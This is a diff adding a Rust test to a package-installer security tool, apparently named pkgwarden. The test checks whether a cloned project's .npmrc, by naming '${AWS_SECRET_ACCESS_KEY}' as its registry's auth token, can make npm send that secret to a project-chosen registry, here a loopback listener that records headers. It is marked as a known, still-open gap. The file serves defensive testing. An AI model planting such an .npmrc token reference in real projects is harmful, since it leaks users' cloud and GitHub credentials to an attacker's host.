@@ -946,3 +946,82 @@ for (const f of {files:?}) {{
     }
     assert!(failed.is_empty(), "{failed:#?}");
 }
+
+/// A loopback "registry" that answers 404 to everything and keeps the
+/// `Authorization` headers it was sent.
+fn header_sink() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
+    use std::io::{Read, Write};
+    use std::sync::{Arc, Mutex};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let heard = Arc::new(Mutex::new(Vec::<String>::new()));
+    let h = heard.clone();
+    // Never joined: it waits for clients that may not come.
+    std::thread::spawn(move || {
+        for mut c in listener.incoming().flatten() {
+            let mut buf = vec![0u8; 8192];
+            let n = c.read(&mut buf).unwrap_or(0);
+            let req = String::from_utf8_lossy(&buf[..n]).to_string();
+            for line in req.lines() {
+                if line.to_ascii_lowercase().starts_with("authorization:") {
+                    h.lock().unwrap().push(line.to_string());
+                }
+            }
+            let _ = c.write_all(
+                b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
+            );
+        }
+    });
+    (port, heard)
+}
+
+/// Class 7/10 (secret variables), through the manager. `scrub_env` keeps
+/// any secret variable a configuration file of the plan names as
+/// `${NAME}`, the project's `.npmrc` among them: a file of the cloned
+/// repository. That `.npmrc` names its own registry (a host the plan then
+/// allows, in block too) and gives it `_authToken=${AWS_SECRET_ACCESS_KEY}`
+/// (or `${GITHUB_TOKEN}`): npm itself sends the value to that host as a
+/// bearer token. Here the registry is a loopback listener that keeps the
+/// `Authorization` headers. Control: without the reference, the variables
+/// are removed and nothing is sent.
+#[test]
+#[ignore = "round 15: a cloned project's .npmrc naming ${AWS_SECRET_ACCESS_KEY} as its registry's token makes pkgwarden keep the variable and npm send it to the project's registry, in block"]
+fn a_project_npmrc_does_not_unlock_secret_variables() {
+    let mut failed = Vec::new();
+    for (tag, reference) in [("control", false), ("referenced", true)] {
+        let (port, heard) = header_sink();
+        let env = ShimEnv::new(&[]);
+        let project = env.home.subdir("proj");
+        fs::write(
+            project.join("package.json"),
+            support::probes::deps(&["pw-anything"]).to_string(),
+        )
+        .unwrap();
+        let mut npmrc = format!("registry=http://127.0.0.1:{port}/\n");
+        if reference {
+            npmrc.push_str(&format!(
+                "//127.0.0.1:{port}/:_authToken=${{AWS_SECRET_ACCESS_KEY}}\n"
+            ));
+        }
+        fs::write(project.join(".npmrc"), npmrc).unwrap();
+        let r = support::installs::install(
+            &env,
+            "block",
+            &["npm", "install"],
+            &project,
+            &[("AWS_SECRET_ACCESS_KEY", "EYES15-AWS-SECRET".to_string())],
+        );
+        std::thread::sleep(std::time::Duration::from_millis(200));
+        let heard = heard.lock().unwrap().clone();
+        let leaked = heard.iter().any(|h| h.contains("EYES15-AWS-SECRET"));
+        if !reference {
+            assert!(!leaked, "the control sent it: {heard:?}");
+        } else if leaked {
+            failed.push(format!(
+                "{tag}: npm sent {heard:?} (exit {}); findings {}",
+                r.code, r.report["findings"]
+            ));
+        }
+    }
+    assert!(failed.is_empty(), "{failed:#?}");
+}
